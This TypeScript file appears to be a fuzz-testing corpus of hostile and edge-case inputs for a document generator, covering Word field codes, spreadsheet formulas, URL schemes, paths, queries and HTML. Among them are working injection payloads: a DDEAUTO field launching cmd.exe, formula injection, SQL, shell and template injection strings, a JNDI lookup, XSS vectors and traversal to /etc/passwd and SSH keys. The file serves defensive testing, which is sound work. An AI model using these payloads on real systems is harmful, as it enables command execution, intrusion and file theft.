/** Words of which hostile texts are made. */

const words = (text: string) => text.split(' ');
const lines = (text: string) => text.trim().split('\n');

/** By where they come from. */
export const hostileWords = {
  /** Elements of Word, charts and packages. */
  elements: words(
    'w:t w:r w:p w:tc w:tr w:tbl w:body w:document w:sectPr w:hyperlink w:fldSimple w:instrText w:bookmarkStart w:sdt w:drawing c:v c:chart a:t si dc:title Relationship Override',
  ),
  /** What stands between an ampersand and a semicolon. */
  entities: words(
    'amp lt gt quot apos nbsp eacute euro shy zwj rlm bogus xxe #0 #8 #x0 #xB #xD #xA #xD800 #xDFFF #xFFFE #xFFFF #x110000 #99999999999 #x41 #38 #x26 #x',
  ),
  /** Codes of fields in Word. */
  fields: lines(`
TOC \\o "1-9" \\h
HYPERLINK "https://example.org" \\l "x"
INCLUDETEXT "/etc/passwd"
INCLUDEPICTURE "https://example.org/a.png" \\d
DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"
DDE excel "a" "b"
PAGEREF _Toc1 \\h
PAGEREF _Toc2 \\h
REF _Toc1
MERGEFIELD naam
SEQ Tabel \\* ARABIC
FILENAME \\p
USERNAME
DOCPROPERTY Author
STYLEREF "Kop 1"
IF 1 = 1 "ja" "nee"
ASK x "Wat?"
FILLIN "Wat?"
MACROBUTTON x y
GOTOBUTTON x y
QUOTE 65
SET x 1
= SUM(ABOVE)
DATE \\@ "dd-MM-yyyy"
PAGE
NUMPAGES
LINK Excel.Sheet.12 "x" \\a
RD x.docx
XE "x"
EQ \\f(1;2)`),
  /** What spreadsheets reckon with. */
  formulas: words(
    '1+1 SUM(A1:A9) HYPERLINK("https://example.org";"x") cmd|"/C\u00a0calc"!A0 IMPORTXML("https://example.org") WEBSERVICE("https://example.org") A1 RAND() DDE("x";"y") 2',
  ),
  /** What addresses begin with. */
  schemes: words(
    'javascript vbscript data file ms-word mailto tel about blob app chrome smb ftp ldap jar view-source intent http https',
  ),
  /** Ways to files, and names that are none. */
  paths: lines(`
../../etc/passwd
..\\..\\windows\\win.ini
/dev/null
\\\\server\\share\\x
C:\\con\\con
file:///etc/passwd
~/.ssh/id
word/document.xml
[Content_Types].xml
_rels/.rels
docProps/core.xml
xl/workbook.xml
CON
NUL
LPT1
aux.docx
a/./b//c
%2e%2e%2f
%00
%c0%ae%c0%ae/`),
  /** Queries, commands and templates of all sorts. */
  queries: lines(`
' OR '1'='1
"; DROP TABLE pitches; --
1; SELECT 1
') UNION SELECT NULL --
/* x */
{"$gt": ""}
{"a":[1,{"b":null}]}
[1,2
--- # yaml
key: "v
a;b;c
a,"b
"a""b"
| a | b |
# kop
\`\`\`
[x](javascript:alert(1))
![x](x)
**vet** _schuin_
<<: *anker
$(id)
\`id\`
; ls -la
&& calc
| tee x
\${jndi:ldap://example.org/a}
#{7*7}
{{7*7}}
<%= 7*7 %>
{% for x in y %}`),
  /** What pages run or break on. */
  pages: lines(`
<script>alert(1)</script>
</script><script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=&#97;lert(1)>
<style>*{display:none}</style>
</style>
</title><b>
</td></tr></table>
<a href="javascript:alert(1)">x</a>
<iframe srcdoc="x">
<!--[if mso]>x<![endif]-->
<base href="https://example.org">
<meta http-equiv=refresh content=0>
" onmouseover="alert(1)
' autofocus onfocus='alert(1)
<details open ontoggle=alert(1)>
<math><mi//xlink:href="data:x,y">
<plaintext>
</body></html>
<input value="
url(javascript:x)
expression(alert(1))
@import 'x'
--></style>
\\u003cscript\\u003e
\\x3cscript\\x3e
+ADw-script+AD4-
ï»¿
Ã©Ã¨
â‚¬`),
  /** What looks like a number. */
  numbers: words(
    '0 -0 00 007 1e308 1e-324 1E400 -1e400 NaN Infinity -Infinity 0x10 0b1 0o7 1_000 1,5 1.5 1.000.000,00 1,000,000.00 +31 €0 100% ½ ٪ 1/2 12-5 1:2 1:00:00 -1 --1 +1 .5 5. 1. 1) a) 9007199254740993 18446744073709551616 3,14159265358979323846',
  ),
  /** What looks like a date. */
  dates: words(
    '31-02-2022 29-02-1900 2022-13-45 0000-00-00 9999-12-31 10000-01-01 1-1-1 2022-03-27T02:30 2022-W53-7 24:00 25:61 1/2/3 MARCH1 SEPT2 jan-00 1582-10-10 -0001-01-01 2022-03-08T10:15:00Z 1969-12-31T23:59:59Z',
  ),
  /** Names that documents of ours use themselves. */
  inner: words(
    'Heading1 Heading2 Title Subtitle TOC1 TOCHeading Caption Normal Kop1 TableText TableNote ListParagraph Fact Marking Figure Footer DefaultParagraphFont bullets _Toc1 _Toc2 _GoBack rId1 rId2 rId100 rId500 rIdPodium1 chart1.xml Sheet1 Blad1!A1 word xmlns w:val xml:space preserve PodiumUitleg',
  ),
  /** Names and signs that programs have a meaning for. */
  programs: words(
    '__proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ then length null undefined true false NULL None nil NaN TRUE ONWAAR #N/A #REF! #NAAM? #DIV/0! [object\u00a0Object] () [] {} {}[] ~ * ? ! \\ / | & % $ # @ ^ ; : , . … - – — _',
  ),
  /** Writing of all sorts, also in forms that are to be made one. */
  scripts: lines(`
Zażółć gęślą jaźń
Ελληνικά ΐ ΰ ς
Съешь ещё этих
עברית: שלום 123 עולם
العربية ١٢٣ مرحبا بالعالم
فارسی ‌می‌خواهم
हिन्दी क्षत्रिय
বাংলা ক্ষুধা
ਪੰਜਾਬੀ
தமிழ் கொ
తెలుగు
ಕನ್ನಡ
മലയാളം ന്‍
සිංහල ශ්‍රී
ไทยไม่มีช่องว่าง
ລາວ
བོད་སྐད
မြန်မာ
ខ្មែរ ស្ត្រី
ქართული
Հայերեն
አማርኛ
ᏣᎳᎩ
ᐃᓄᒃᑎᑐᑦ
日本語テスト
简体中文繁體
한국어
ᄒᆞᆫ글
ᠮᠣᠩᠭᠣᠯ
ꦗꦮ
ⵜⴰⵎⴰⵣⵉⵖⵜ
𐎠𐎡𐎢
𒀀𒁀
𓀀𓂀
𝔉𝔯𝔞𝔨𝔱𝔲𝔯
𝟘𝟙𝟚
𠮷野家
𪚥𪚥
𝄞𝄢
𐐷𐐏
İstanbul ı
ẞ ß ǅ
Ångström Å Å
Ω Ω K K
ﬁ ﬂ ﷺ ﷽
ﾊﾝｶｸ ＡＢＣ
क़ ফ় ਖ਼
각 각 ㄱㅏㄱ
ș ş ţ ț
ij ĳ ỳ Ĳ`),
  /** Signs of several characters, whole and broken. */
  emoji: words(
    '😀 😀😀😀 👩‍👩‍👧‍👦 👨🏿‍🚀 🏳️‍🌈 🏴‍☠️ 🇳🇱 🇳🇱🇧🇪 🇳 1️⃣ #️⃣ *️⃣ ☺︎ ☺️ 👍🏻 👍🏿 🤷🏽‍♀️ 🧑‍🤝‍🧑 👁️‍🗨️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🏴󠁧󠁢 🫠 ⌚︎ ©️ ™ ℹ️ 🈂️ ㊗️ ❤️‍🔥 🧑🏻‍❤️‍💋‍🧑🏿 🀄 🃏 👩‍ ‍👩 🏻',
  ),
} as const;
